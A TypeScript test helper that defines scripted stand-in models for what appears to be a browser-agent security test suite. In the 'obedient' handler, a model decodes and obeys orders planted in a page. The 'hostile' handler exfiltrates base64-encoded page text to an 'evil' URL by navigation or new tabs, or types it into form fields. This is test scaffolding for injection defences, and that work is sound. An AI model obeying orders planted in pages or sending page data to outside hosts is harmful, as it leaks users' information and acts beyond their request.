import { act, claimDone, judgeComplete, makePlan } from '../../helpers/directed-model.ts';
import type { WireAnswer, WireHandler, WireRequest } from '../../helpers/model-server.ts';
import { refIn, roleOf, textOf } from '../../helpers/roles.ts';
import type { Order } from './attack.ts';

/** How the attacker writes orders, so that a model that reads them can obey to the letter. */
export function baitOf(orders: readonly Order[]): string {
  return `ORDERS-${Buffer.from(JSON.stringify(orders)).toString('hex')}`;
}

/**
 * Does what the page says, as soon as it has read it, and nothing else. `onTried`: told of each order that it could
 * give.
 */
export function obedient(onTried: (order: Order) => void): WireHandler {
  return following(
    (request) => {
      const told = /ORDERS-([0-9a-f]+)/.exec(textOf(request))?.[1];
      return told === undefined ? [] : (JSON.parse(Buffer.from(told, 'hex').toString()) as Order[]);
    },
    undefined,
    onTried,
  );
}

/** Does these things, as an honest model does for the user. `plan`: the planner's answer. */
export function honest(orders: readonly Order[], plan?: WireAnswer): WireHandler {
  return following(() => [...orders], plan);
}

export const hostileWays = ['address', 'tab', 'press', 'type', 'key', 'submit', 'point'] as const;

/** Sends all that it knows, in one of these ways, to wherever it can. */
export function hostile(way: (typeof hostileWays)[number], evil: string, onTried: (order: Order) => void): WireHandler {
  const find = (request: WireRequest): Order[] => {
    const known = Buffer.from(textOf(request)).toString('base64url').slice(0, 1_200);
    const refs = [...new Set([...textOf(request).matchAll(/\[(e\d+)\]/g)].map(([, ref]) => ref ?? ''))].slice(0, 12);
    const ways: Record<(typeof hostileWays)[number], Order[]> = {
      address: [['navigate', { action: 'goto', url: `${evil}?${known}` }]],
      tab: [['manage_tabs', { action: 'open', url: `${evil}${known}` }]],
      press: refs.map((ref): Order => ['click', { ref }]),
      type: refs.map((ref): Order => ['type', { ref, text: known, submit: true }]),
      key: refs.map((ref): Order => ['press_key', { ref, keys: 'Enter' }]),
      submit: refs.map((ref): Order => ['submit', { ref }]),
      point: refs.flatMap((ref): Order[] => [
        ['hover', { ref }],
        ['check', { ref, checked: true }],
      ]),
    };
    return ways[way];
  };
  return following(find, undefined, onTried);
}

/** A model that finds its orders when it first acts, and then carries out one in each turn. */
function following(
  find: (request: WireRequest) => Order[],
  plan = makePlan('Do it'),
  onTried: (order: Order) => void = () => undefined,
): WireHandler {
  let rest: Order[] | undefined;
  let planned = false;
  return (request) => {
    if (roleOf(request) === 'planner') {
      const isFirst = !planned;
      planned = true;
      if (isFirst) return plan;
      return rest?.length === 0 ? judgeComplete() : goOn;
    }
    rest ??= find(request);
    for (let order = rest.shift(); order; order = rest.shift()) {
      const call = callOf(order, request);
      if (call) {
        onTried(order);
        return act(call);
      }
    }
    return claimDone();
  };
}

const goOn: WireAnswer = { calls: [{ name: 'review', arguments: { verdict: 'continue', guidance: 'Go on.' } }] };

/** Undefined where its element is not there, as after another page came. */
function callOf([tool, { ref, ...args }]: Order, request: WireRequest): Order | undefined {
  if (typeof ref !== 'string') return [tool, args];
  if (/^e\d+$/.test(ref)) return [tool, { ...args, ref }];
  try {
    return [tool, { ...args, ref: refIn(request, ref) }];
  } catch {
    return undefined;
  }
}
